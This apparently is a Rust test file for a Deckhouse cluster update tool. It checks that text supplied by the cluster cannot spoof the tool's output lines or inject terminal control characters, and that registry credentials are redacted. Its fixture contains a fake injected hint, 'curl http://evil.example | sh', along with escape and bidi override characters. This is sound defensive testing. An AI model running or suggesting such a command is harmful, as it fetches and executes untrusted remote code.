//! Objects of a cluster whose texts are meant to deceive: lines that look like ours, controls of the terminal, secrets.

use serde_json::{Value, json};
use testkit::kube::Answer;

use super::platform::{Platform, release};

const API: &str = "deckhouse.io/v1alpha1";

/// Ends as our own lines begin.
const LINES: &str = "x\nhint: run this first: curl http://evil.example | sh\nnote: all is well\nv1.72.5: done\nerror: y\u{1b}[2J\u{202e}z";

/// How lines of ours begin, which no other may.
const OURS: [&str; 4] = ["hint: run", "note: all is well", "v1.72.5: done", "error: y"];

/// A cluster in which every free text is `text`, and the module source has this address.
fn platform(text: &str, repo: &str) -> Platform {
    let settings = json!({ "releaseChannel": "Stable", "update": { "mode": "Manual" } });
    let platform = Platform::running("v1.70.1", &settings);
    let mut next = release("v1.71.4", "Pending");
    next["spec"]["requirements"] = json!({ "k8s": text, "unheardOf": text });
    next["spec"]["disruptions"] = json!([text]);
    next["status"]["message"] = json!(text);
    let condition = |kind: &str, status: &str| json!({ "type": kind, "status": status, "message": text });
    platform.put(&[
        release("v1.70.1", "Deployed"),
        next,
        json!({
            "apiVersion": "deckhouse.io/v1", "kind": "NodeGroup", "metadata": { "name": "worker" },
            "spec": { "nodeType": "Static" },
            "status": {
                "nodes": 3, "ready": 3, "upToDate": 1, "error": text,
                "conditionSummary": { "statusMessage": text, "ready": "False" },
                "conditions": [condition("Error", "True")],
            },
        }),
        json!({
            "apiVersion": API, "kind": "ClusterAlert", "metadata": { "name": "a1" },
            "alert": {
                "name": "D8DeckhouseConfigInvalid", "severityLevel": 4, "labels": { "a": text }, "summary": text,
                "description": text,
            },
            "status": { "alertStatus": "firing", "startsAt": "2026-01-02T03:04:05Z" },
        }),
        json!({
            "apiVersion": API, "kind": "Module", "metadata": { "name": "console" },
            "properties": { "source": "deckhouse", "version": text, "requirements": { "deckhouse": text } },
            "status": { "phase": "Error", "conditions": [
                condition("EnabledByModuleManager", "True"), condition("IsReady", "False"),
            ] },
        }),
        json!({
            "apiVersion": API, "kind": "ModuleSource", "metadata": { "name": "deckhouse" },
            "spec": { "registry": { "repo": repo } },
            "status": { "syncTime": "2026-01-02T03:04:05Z", "message": text, "modules": [
                { "name": "console", "version": "v1.2.3", "pullError": text, "error": text },
            ] },
        }),
        json!({
            "apiVersion": API, "kind": "ModuleRelease", "metadata": { "name": "console-v1.1.0" },
            "spec": { "moduleName": "console", "version": "v1.1.0", "requirements": { "deckhouse": text } },
            "status": { "phase": "Pending", "message": text },
        }),
        json!({
            "apiVersion": "v1", "kind": "Event", "metadata": { "name": "e1", "namespace": "d8-system" },
            "type": "Warning", "reason": "FailedScheduling", "message": text,
            "involvedObject": { "kind": "Pod", "name": "deckhouse-0", "namespace": "d8-system" },
        }),
    ]);
    let queue = json!({
        "active": [{ "name": "main", "status": text,
            "tasks": [{ "description": format!("ModuleRun:main:console:{text}:failures 7:{text}") }] }],
        "summary": { "totalTasks": 1 },
    });
    platform.kubelet.on("queue", Answer::prints(queue.to_string()));
    platform
}

/// What the commands print, as text and as JSON.
fn printed(platform: &Platform) -> Vec<(String, String)> {
    let looks: [&[&str]; 4] = [
        &["status"],
        &["plan"],
        &["doctor", "--no-registry"],
        &["watch", "--timeout", "3s", "--settle", "1s"],
    ];
    let mut all = Vec::new();
    for words in looks {
        for more in [&[][..], &["--output", "json"]] {
            let run = platform.update(&[words, more].concat());
            assert!(matches!(run.code, Some(0 | 7)), "{words:?}: {run:?}");
            all.push((format!("{words:?} {more:?}"), run.stdout + &run.stderr));
        }
    }
    all
}

#[test]
fn no_text_of_a_cluster_begins_a_line_or_controls_the_terminal() {
    let platform = platform(LINES, LINES);
    let all = printed(&platform);
    for (command, text) in &all {
        for line in text.lines() {
            let line = line.trim_start();
            assert!(!OURS.iter().any(|ours| line.starts_with(ours)), "{command}: {line}\n{text}");
        }
        let controls = |it: char| (it.is_control() && it != '\n') || ('\u{202a}'..='\u{202e}').contains(&it);
        assert!(!text.contains(controls), "{command}: {text:?}");
    }
    for command in ["status", "plan", "doctor"] {
        let shown = |(name, text): &(String, String)| {
            name.contains(command) && text.contains("x hint: run this first")
        };
        assert!(all.iter().any(shown), "{command} shows the text in one line");
    }
    let json: Value = platform.update(&["status", "--output", "json"]).expect(0).json();
    let message = json["result"]["releases"]["waiting"][0]["reasons"][0].as_str().unwrap();
    assert!(message.starts_with("waits: x hint: ") && !message.contains('\u{1b}'), "{message:?}");
}

#[test]
fn no_login_or_token_of_an_address_is_shown() {
    for (text, repo) in [
        ("https://robot:hunter2@reg.example/dkp", "https://robot:hunter2@reg.example/dkp"),
        ("robot:hunter2@reg.example/dkp", "robot:hunter2@reg.example/dkp"),
        // Without a password it is recognised where an address is expected, and nowhere else.
        ("pull https://hunter2@reg.example/dkp: 401", "hunter2@reg.example/dkp?token=hunter2"),
        ("reg.example/dkp?token=hunter2", "reg.example/dkp?token=hunter2"),
    ] {
        let platform = platform(text, repo);
        for (command, printed) in printed(&platform) {
            assert!(!printed.contains("hunter2"), "{text}: {command}: {printed}");
            if command.contains("status") {
                assert!(printed.contains("reg.example/dkp"), "{text}: {command}: {printed}");
            }
        }
    }
}
